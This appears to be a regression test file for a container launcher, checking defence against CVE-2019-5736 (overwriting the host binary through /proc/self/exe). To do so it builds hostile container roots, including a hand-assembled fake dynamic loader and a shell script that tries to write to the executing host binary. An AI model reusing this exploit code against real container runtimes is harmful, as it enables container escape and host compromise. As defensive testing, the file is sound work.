/**
 * ns's own executable must never run inside the container, where a hostile root would be its loader (CVE-2019-5736):
 * until the exec of init /proc/self/exe is ns.
 */
import { describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import {
  chmodSync,
  cpSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import {
  callers,
  folder,
  leavesNothing,
  line,
  makeSmallRoot,
  ns,
  root,
  runCommand,
  script,
} from "../harness.ts";

leavesNothing();

const hash = (file = ns): string => createHash("sha256").update(readFileSync(file)).digest("hex");
const hashBefore = hash();

describe.each(callers)("%s", (_, unprivileged) => {
  const start = (where: string, init: string[], pre = "-") =>
    runCommand(line(unprivileged, init, { root: where, pre }), { unprivileged });

  /** A root in which a copy of ns would find its loader. */
  const where = makeSmallRoot(`own-${unprivileged}`, ["sh", "true"]);
  for (const name of ["ld-linux-x86-64.so.2", "libc.so.6", "libpthread.so.0", "libdl.so.2", "libm.so.6"]) {
    const directory = name.startsWith("ld") ? "lib64" : "lib/x86_64-linux-gnu";
    mkdirSync(join(where, directory), { recursive: true });
    cpSync(join("/", directory, name), join(where, directory, name), { dereference: true });
  }
  const program = (name: string, text: string | Uint8Array): void => {
    writeFileSync(join(where, name), text);
    chmodSync(join(where, name), 0o755);
  };
  program("script", "#!/proc/self/exe\n");
  program("option", "#!/proc/self/exe --version\n");
  program("thread", "#!/proc/thread-self/exe\n");
  program("first", "#!/proc/1/exe\n");
  program("elf", elfFor("/proc/self/exe"));
  symlinkSync("/proc/self/exe", join(where, "link"));
  symlinkSync("proc/self/../self/exe", join(where, "relative"));
  symlinkSync("/link", join(where, "chain"));
  program("interpreted", "#!/link\n");

  const inits = ["script", "option", "thread", "first", "elf", "link", "relative", "chain", "interpreted"];
  const refused = async (init: string, statuses: number[]): Promise<void> => {
    const ran = await start(where, [init, "--version"]);
    expect(ran.stdout).toBe("");
    expect(statuses).toContain(ran.status!);
    expect(ran.stderr).toStartWith(`ns: init ${init} in ${where} `);
    expect(hash()).toBe(hashBefore);
  };
  test.each([...inits, "proc/self/exe"])("init /%s", (init) =>
    refused(`/${init}`, /link|relative|chain|proc/.test(init) ? [127] : [126]),
  );

  // The check looks at the root's own /proc, and finds there what the fresh one will cover.
  describe("nor when the root's own /proc has such files", () => {
    const plant = (): void => {
      for (const name of ["self", "thread-self", "1"]) {
        mkdirSync(join(where, "proc", name), { recursive: true });
        cpSync(join(root, "bin/busybox"), join(where, "proc", name, "exe"));
      }
    };
    test.each([...inits, "proc/self/exe"])("init /%s", async (init) => {
      plant();
      try {
        await refused(`/${init}`, [126, 127]);
      } finally {
        for (const name of readdirSync(join(where, "proc")))
          rmSync(join(where, "proc", name), { recursive: true });
      }
    });
  });

  test("nor when init becomes such a file while the pre script runs", async () => {
    program("changing", "#!/bin/true\n");
    const pre = script(
      `change-${unprivileged}`,
      `#!/bin/sh\ncp ${where}/option ${where}/changing.new && mv ${where}/changing.new ${where}/changing\n`,
    );
    chmodSync(where, 0o777);
    const ran = await start(where, ["/changing"], pre);
    expect(hash()).toBe(hashBefore);
    expect(ran).toMatchObject({ status: expect.any(Number), stdout: "" });
    expect(ran.status).not.toBe(0);
  });

  // The whole attack, on a copy of ns: the root's loader keeps a descriptor of what is executed, becomes a shell, and
  // the shell writes as soon as nothing executes that file any more.
  test("nor can what is executed in its place be written", async () => {
    const victim = join(folder, `victim-${unprivileged}`);
    cpSync(ns, victim);
    chmodSync(victim, 0o777);
    const evil = makeSmallRoot(`evil-${unprivileged}`, ["sh", "true"]);
    mkdirSync(join(evil, "lib64"));
    writeFileSync(join(evil, "lib64/ld-linux-x86-64.so.2"), loaderThatKeeps());
    chmodSync(join(evil, "lib64/ld-linux-x86-64.so.2"), 0o755);
    const attack = `read -r now rest </proc/uptime; end=$((\${now%.*} + 3))
      while :; do
        { echo attacked >>/proc/self/fd/7; } 2>&- && echo written && exit
        read -r now rest </proc/uptime; [ \${now%.*} -lt $end ] || exit
      done`;
    writeFileSync(join(evil, "attack"), attack);
    mkdirSync(join(evil, "proc/self"));
    cpSync(join(root, "bin/busybox"), join(evil, "proc/self/exe"));
    const [, ...words] = line(unprivileged, ["/proc/self/exe"], { root: evil });
    const ran = await runCommand([victim, ...words], { unprivileged });
    const after = hash(victim);
    rmSync(victim);
    expect(ran.stdout).not.toContain("written");
    expect(after).toBe(hashBefore);
  }, 20_000);
});

/** The smallest program that asks for a loader: one header, PT_INTERP. */
function elfFor(loader: string): Uint8Array {
  const bytes = new Uint8Array(256);
  const view = new DataView(bytes.buffer);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  view.setUint16(16, 2, true); // ET_EXEC
  view.setUint16(18, 62, true); // x86-64
  view.setUint32(20, 1, true);
  view.setBigUint64(24, 0x400000n, true);
  view.setBigUint64(32, 64n, true);
  view.setUint16(52, 64, true);
  view.setUint16(54, 56, true);
  view.setUint16(56, 2, true);
  const name = new TextEncoder().encode(`${loader}\0`);
  const header = (at: number, type: number, offset: number, size: number): void => {
    view.setUint32(at, type, true);
    view.setUint32(at + 4, 5, true);
    view.setBigUint64(at + 8, BigInt(offset), true);
    view.setBigUint64(at + 16, BigInt(0x400000 + offset), true);
    view.setBigUint64(at + 32, BigInt(size), true);
    view.setBigUint64(at + 40, BigInt(size), true);
    view.setBigUint64(at + 48, 0x1000n, true);
  };
  header(64, 3, 192, name.length); // PT_INTERP
  header(120, 1, 0, 256); // PT_LOAD
  bytes.set(name, 192);
  return bytes;
}

/**
 * A static program, to be planted as the loader: opens /proc/self/exe as descriptor 7, then executes busybox's shell
 * with the script /attack.
 */
function loaderThatKeeps(): Uint8Array {
  const at = 64 + 56;
  const strings = ["/proc/self/exe", "/bin/busybox", "sh", "/attack"].map((text) => [
    ...Buffer.from(`${text}\0`),
  ]);
  const code: number[] = [];
  const fixes: [number, number][] = [];
  const emit = (...bytes: number[]): void => void code.push(...bytes);
  /** lea REG, [rip + string]: 3 bytes of opcode, then the distance */
  const lea = (opcode: number[], string: number): void => {
    emit(...opcode, 0, 0, 0, 0);
    fixes.push([code.length, string]);
  };
  const RDI = [0x48, 0x8d, 0x3d];
  const RAX = [0x48, 0x8d, 0x05];
  const call = (number: number): void => emit(0xb8, number, 0, 0, 0, 0x0f, 0x05); // mov eax, number; syscall
  lea(RDI, 0);
  emit(0x31, 0xf6); // xor esi, esi
  call(2); // open
  emit(0x89, 0xc7, 0xbe, 7, 0, 0, 0); // mov edi, eax; mov esi, 7
  call(33); // dup2
  emit(0x6a, 0x00, 0x48, 0x89, 0xe2); // push 0; mov rdx, rsp: no environment, and the end of the arguments
  lea(RAX, 3);
  emit(0x50); // push rax
  lea(RAX, 2);
  emit(0x50, 0x48, 0x89, 0xe6); // push rax; mov rsi, rsp
  lea(RDI, 1);
  call(59); // execve
  emit(0xf4);
  for (const [end, string] of fixes) {
    const distance = code.length + strings.slice(0, string).flat().length - end;
    code[end - 4] = distance & 255;
    code[end - 3] = distance >> 8;
  }
  emit(...strings.flat());
  const bytes = new Uint8Array(at + code.length);
  const view = new DataView(bytes.buffer);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  view.setUint16(16, 3, true); // ET_DYN
  view.setUint16(18, 62, true);
  view.setUint32(20, 1, true);
  view.setBigUint64(24, BigInt(at), true); // entry
  view.setBigUint64(32, 64n, true);
  view.setUint16(52, 64, true);
  view.setUint16(54, 56, true);
  view.setUint16(56, 1, true);
  view.setUint32(64, 1, true); // PT_LOAD
  view.setUint32(68, 5, true);
  view.setBigUint64(96, BigInt(bytes.length), true);
  view.setBigUint64(104, BigInt(bytes.length), true);
  view.setBigUint64(112, 0x1000n, true);
  bytes.set(code, at);
  return bytes;
}
